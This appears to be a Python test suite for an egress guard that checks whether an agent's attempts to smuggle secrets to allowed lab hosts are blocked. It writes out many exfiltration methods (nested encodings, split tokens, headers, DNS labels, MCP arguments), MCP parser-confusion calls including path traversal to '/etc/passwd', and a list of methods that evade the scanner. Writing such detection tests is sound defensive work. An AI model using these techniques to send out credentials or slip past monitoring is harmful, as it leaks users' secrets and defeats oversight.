# SPDX-License-Identifier: Apache-2.0
"""With VETHGUARD_LONG=1 (`make check-exfiltration`): kinds of exfiltration aimed at hosts that the policy allows, as an agent could send them:
encodings inside of each other, split secrets, fields, cookies, bodies, frames, host labels, paths, and arguments of MCP calls. Counts what is
blocked and what is seen. What passes unseen is named here, one by one: a scanner that finds more, or less, fails the test."""
import base64
import gzip
import json
import os
import unittest
import zlib

import support
from support import policy, wait_until
from test_secrets import GITHUB, HELPERS, PEM, Secrets
from test_secrets_long import (place_argument, place_chunks, place_cookie, place_field, place_form, place_frames, place_grpc, place_json,
                               place_multipart, place_path, place_query, place_raw)

LONG = os.environ.get("VETHGUARD_LONG") == "1"
B64, HEX = base64.b64encode, lambda b: b.hex().encode()
HALF = len(GITHUB) // 2
TOKEN = GITHUB.decode()
RULES = ("https://www.lab.test", "https://*.wild.lab.test",
         "{name: mcp, to: api.lab.test, paths: [/mcp], mcp: {tools: [search, write_file], methods: ['resources/read']}}",
         "{name: bound, to: api.lab.test, paths: [/bound], mcp: {tools: [write_file], arguments: {path: '/data/**', content: ['ok', 'fine']}}}")


def percent(b):
    return "".join(f"%{c:02x}" for c in b).encode()


def escapes(b):
    return "".join(f"\\u{c:04x}" for c in b).encode()


def body(data, kind="application/octet-stream", path="/leak"):
    return f"post('www.lab.test', {path!r}, {data!r}, 'Content-Type: {kind}')"


def rpc(path="/mcp", kind="application/json", **message):
    text = json.dumps({"jsonrpc": "2.0", "id": 1, **message}).encode()
    return f"post('api.lab.test', {path!r}, {text!r}, 'Content-Type: {kind}')"


def write(arguments, path="/mcp", tool="write_file", **more):
    return rpc(path, method="tools/call", params={"name": tool, "arguments": arguments, **more})


def nested():
    ways = {"hex in base64": B64(HEX(GITHUB)), "base64 in hex": HEX(B64(GITHUB)), "base64 three times": B64(B64(B64(GITHUB))),
            "base64 in percent": percent(B64(GITHUB)), "base64 in escapes": escapes(B64(GITHUB)), "percent twice": percent(percent(GITHUB)),
            "base64 of gzip": B64(gzip.compress(GITHUB)), "base64 of zlib of hex": B64(zlib.compress(HEX(GITHUB))), "hex of gzip": HEX(gzip.compress(GITHUB)),
            "base64url without padding": base64.urlsafe_b64encode(GITHUB).rstrip(b"="), "hex pairs": GITHUB.hex(":").encode(),
            "base64 in lines in JSON": json.dumps(base64.encodebytes(PEM * 2).decode()).encode()}
    return {f"nested: {n}": place_raw(None, t) for n, t in ways.items()} | {"nested: base64 four times": place_raw(None, B64(B64(B64(B64(GITHUB)))))}


def split():
    a, b = TOKEN[:HALF], TOKEN[HALF:]
    return {"split: chunks": place_chunks(None, GITHUB), "split: chunks of base64": place_chunks(None, B64(GITHUB)), "split: frames": place_frames(None, GITHUB),
            "split: lines of base64": body(base64.encodebytes(GITHUB * 2)), "split: invisible characters": body("\u200b".join(TOKEN).encode()),
            "split: soft hyphens": body("\u00ad".join(TOKEN).encode()), "split: pairs of hex with dashes": body(GITHUB.hex("-").encode()),
            "split: two members": body(json.dumps({"a": a, "b": b}).encode(), "application/json"),
            "split: two parameters": f"fetch('www.lab.test', '/leak?a={a}&b={b}')[0]",
            "split: two cookies": f"fetch('www.lab.test', '/leak', fields=('Cookie: a={a}; b={b}',))[0]",
            "split: two fields": f"fetch('www.lab.test', '/leak', fields=('X-A: {a}', 'X-B: {b}'))[0]"}


def fields():
    return {"field: X-Context": place_field(None, GITHUB), "field: base64": place_field(None, B64(GITHUB)), "field: hex": place_field(None, HEX(GITHUB)),
            "field: User-Agent": f"fetch('www.lab.test', '/leak', fields=('User-Agent: agent/{TOKEN}',))[0]",
            "field: Referer": f"fetch('www.lab.test', '/leak', fields=('Referer: https://x.example/?k={TOKEN}',))[0]",
            "field: Authorization": f"fetch('www.lab.test', '/leak', fields=('Authorization: Bearer {TOKEN}',))[0]",
            "field: its name": f"fetch('www.lab.test', '/leak', fields=('X-{TOKEN}: 1',))[0]",
            "cookie: plain": place_cookie(None, GITHUB), "cookie: base64": place_cookie(None, B64(GITHUB)),
            "cookie: percent": place_cookie(None, percent(GITHUB)), "cookie: its name": f"fetch('www.lab.test', '/leak', fields=('Cookie: {TOKEN}=1',))[0]"}


def bodies():
    tar = b"file.txt".ljust(512, b"\0") + GITHUB.ljust(512, b"\0") + bytes(1024)
    return {"body: form": place_form(None, GITHUB), "body: multipart": place_multipart(None, GITHUB), "body: JSON": place_json(None, GITHUB),
            "body: gRPC": place_grpc(None, GITHUB), "body: XML": body(f"<a><b>{TOKEN}</b></a>".encode(), "application/xml"),
            "body: CSV": body(f"name,key\nx,{TOKEN}\n".encode(), "text/csv"), "body: NDJSON": body(b'{"a":1}\n{"k":"' + GITHUB + b'"}\n', "application/x-ndjson"),
            "body: behind a picture": body(b"\x89PNG\r\n\x1a\n" + os.urandom(3000) + b"IEND\xaeB`\x82" + GITHUB, "image/png"),
            "body: tar": body(tar, "application/x-tar"), "body: tar.gz": body(gzip.compress(tar), "application/gzip"),
            "body: gzip as its coding": f"post('www.lab.test', '/leak', {gzip.compress(GITHUB)!r}, 'Content-Encoding: gzip')",
            "body: private key": body(PEM), "body: private key in base64": body(B64(PEM)), "body: log lines": body(b"INFO started\n" * 500 + b"token=" + GITHUB),
            "body: data URL": body(b"data:text/plain;base64," + B64(GITHUB), "text/plain"), "body: GraphQL variable":
            body(json.dumps({"query": "mutation($t:String!){save(t:$t)}", "variables": {"t": TOKEN}}).encode(), "application/json"),
            "body: PUT": f"fetch('www.lab.test', '/leak', method='PUT', body={GITHUB!r}, fields=('Content-Length: {len(GITHUB)}',))[0]",
            "frame: text": place_frames(None, b"a " + GITHUB), "frame: base64": place_frames(None, B64(GITHUB))}


def urls():
    label = HEX(GITHUB).decode()
    b32 = base64.b32encode(GITHUB).decode().rstrip("=").lower()
    return {"path: segment": place_path(None, GITHUB), "path: base64": place_path(None, B64(GITHUB)), "path: every letter escaped":
            f"fetch('www.lab.test', '/leak/{percent(GITHUB).decode()}')[0]", "path: matrix parameter": f"fetch('www.lab.test', '/leak;k={TOKEN}')[0]",
            "query: value": place_query(None, GITHUB), "query: base64": place_query(None, B64(GITHUB)), "query: hex": place_query(None, HEX(GITHUB)),
            "query: name": f"fetch('www.lab.test', '/leak?{TOKEN}=1')[0]", "query: percent twice": place_query(None, percent(percent(GITHUB))),
            "host: hex": f"fetch('{label[:60]}.wild.lab.test', '/leak')[0]", "host: hex in labels": f"fetch('{label[:30]}.{label[30:60]}.wild.lab.test', '/leak')[0]",
            "host: base32": f"fetch('{b32[:60]}.wild.lab.test', '/leak')[0]", "host: base32 in labels":
            f"fetch('{b32[:20]}.{b32[20:40]}.{b32[40:60]}.wild.lab.test', '/leak')[0]"}


def others():
    """Encodings that the scanner does not undo."""
    codes = json.dumps({"data": list(GITHUB)}).encode()
    return {"other: base32": body(base64.b32encode(GITHUB)), "other: base85": body(base64.b85encode(GITHUB)), "other: reversed": body(GITHUB[::-1]),
            "other: rot13": body(TOKEN.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")).encode()),
            "other: numbers of characters": body(codes, "application/json"), "other: UTF-16": body(TOKEN.encode("utf-16-le")),
            "other: a space between": body(" ".join(TOKEN).encode())}


def calls():
    deep = TOKEN
    for _ in range(20):
        deep = {"x": [deep]}
    return {"call: argument": write({"path": "/tmp/a", "content": TOKEN}), "call: base64": write({"content": B64(GITHUB).decode()}),
            "call: hex": write({"content": HEX(GITHUB).decode()}), "call: deep": write({"content": deep}), "call: key": write({TOKEN: 1}),
            "call: list": write({"lines": ["a", TOKEN, "b"]}), "call: escapes": rpc(method="tools/call", params={"name": "search", "arguments": {"q": "@"}})
            .replace("@", escapes(GITHUB).decode()), "call: gzip in base64": write({"content": B64(gzip.compress(GITHUB)).decode()}),
            "call: data URL": write({"content": "data:;base64," + B64(GITHUB).decode()}), "call: query of a URL": write({"q": f"https://x.example/?k={TOKEN}"}, tool="search"),
            "call: _meta": write({}, _meta={"progressToken": TOKEN}), "call: id": rpc(method="tools/call", id=TOKEN, params={"name": "search", "arguments": {}}),
            "call: private key": write({"content": PEM.decode()}), "call: resource": rpc(method="resources/read", params={"uri": f"file:///{TOKEN}"}),
            "call: notification": rpc(method="notifications/progress", params={"message": TOKEN}), "call: answer to the server":
            f"post('api.lab.test', '/mcp', {json.dumps({'jsonrpc': '2.0', 'id': 1, 'result': {'content': TOKEN}}).encode()!r}, 'Content-Type: application/json')",
            "call: field": f"fetch('api.lab.test', '/mcp', fields=('Mcp-Session-Id: {TOKEN}',))[0]", "call: numbers": write({"content": list(GITHUB)}),
            "call: two arguments": write({"a": TOKEN[:HALF], "b": TOKEN[HALF:]}), "call: reversed": write({"content": TOKEN[::-1]})}


def refused_by_rules():
    """Calls that carry no secret, and that the rules with mcp refuse."""
    call = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "search", "arguments": {}}})
    raw = {"two names": call.replace('"name"', '"name": "run_shell", "name"'), "a name of other letters": call.replace('"name"', '"Name": "run_shell", "name"'),
           "a batch": f"[{call}, {call.replace('search', 'run_shell')}]", "behind the end": call + call.replace("search", "run_shell"),
           "a comment": call.replace("{", "/* x */ {", 1), "a byte order mark": "\ufeff" + call, "a lone surrogate": call.replace("search", "search\\ud800"),
           "an escaped NUL": call.replace("search", "search\\u0000"), "not JSON": "run_shell", "a method of other letters": call.replace("tools/call", "Tools/Call")}
    kinds = {"call: " + n: f"post('api.lab.test', '/mcp', {t.encode()!r}, 'Content-Type: application/json')" for n, t in raw.items()}
    kinds |= {"call: another tool": write({}, tool="run_shell"), "call: another method": rpc(method="prompts/get", params={"name": "search"}),
              "call: another type": rpc(kind="text/plain", method="tools/call", params={"name": "search"}), "call: no type":
              f"post('api.lab.test', '/mcp', {call.encode()!r})", "call: Mcp-Name": f"post('api.lab.test', '/mcp', {call.encode()!r}, 'Content-Type: application/json', 'Mcp-Name: run_shell')",
              "call: another path": write({}, path="/other"), "call: UTF-16": f"post('api.lab.test', '/mcp', {call.encode('utf-16')!r}, 'Content-Type: application/json')",
              "call: compressed": f"post('api.lab.test', '/mcp', {gzip.compress(call.encode())!r}, 'Content-Type: application/json', 'Content-Encoding: gzip')"}
    bound = {"another folder": {"path": "/etc/passwd", "content": "ok"}, "a way up": {"path": "/data/../etc/passwd", "content": "ok"},
             "an escaped way up": {"path": "/data/%2e%2e/x", "content": "ok"}, "another content": {"path": "/data/a", "content": "everything"},
             "no content": {"path": "/data/a"}, "a list": {"path": ["/data/a"], "content": "ok"}, "half of it": {"path": "/data/a", "content": "o"}}
    return kinds | {f"call: bound, {n}": write(a, path="/bound") for n, a in bound.items()}


# What passes and leaves no finding. Each needs a reader of its own, or a reader of several places at once.
UNSEEN = {"nested: base64 four times", "split: two members", "split: two parameters", "split: two cookies", "split: two fields", "call: numbers",
          "call: two arguments", "call: reversed", "other: base32", "other: base85", "other: reversed", "other: rot13", "other: numbers of characters",
          "other: UTF-16", "other: a space between"}
BENIGN = {"a page": "fetch('www.lab.test', '/docs/index.html?page=2')[0]", "a search": write({"q": "how to rotate keys"}, tool="search"),
          "a file": write({"path": "/data/a", "content": "ok"}, path="/bound"), "a commit": f"fetch('www.lab.test', '/commit/{'0f3a9c7e5b' * 4}')[0]",
          "a picture": body(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "image/png"), "a session": rpc(method="initialize", params={"protocolVersion": "2025-06-18"}),
          "a list of tools": rpc(method="tools/list"), "a resource": rpc(method="resources/read", params={"uri": "file:///data/a"}),
          "a form": body(b"name=Ada&comment=nothing+secret", "application/x-www-form-urlencoded"), "an example": body(b"use ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")}


@unittest.skipUnless(LONG, "make check-exfiltration")
class Cases(Secrets):
    def test_kinds_at_allowed_hosts(self):
        box = self.box(*RULES)
        over_http = nested() | split() | fields() | bodies() | urls() | others()
        over_mcp = calls() | refused_by_rules()
        for name, cases in ("HTTP", over_http), ("JSON-RPC", over_mcp):
            got = {}
            for at in range(0, len(cases), 40):
                got |= self.results(box, dict(list(cases.items())[at:at + 40]))
            passed = {n for n, v in got.items() if v != "403"}
            print(f"{name}: blocked {len(cases) - len(passed)} of {len(cases)}; passed unseen: {', '.join(sorted(passed))}")
            self.assertEqual(passed, UNSEEN & set(cases), {n: got[n] for n in passed ^ (UNSEEN & set(cases))})
        self.assertEqual(self.results(box, BENIGN), dict.fromkeys(BENIGN, "200"))
        box.settle()
        refused = [e for e in box.events(support.HTTP) if e["action_id"] == 2]
        told = {e["finding_info"]["related_events"][0]["uid"] for e in self.findings(box)}
        self.assertTrue(all(e["metadata"]["uid"] in told or e["status_code"] in ("condition", "path") for e in refused))
        log = json.dumps(box.events())
        self.assertNotIn(PEM[30:60].decode(), log)
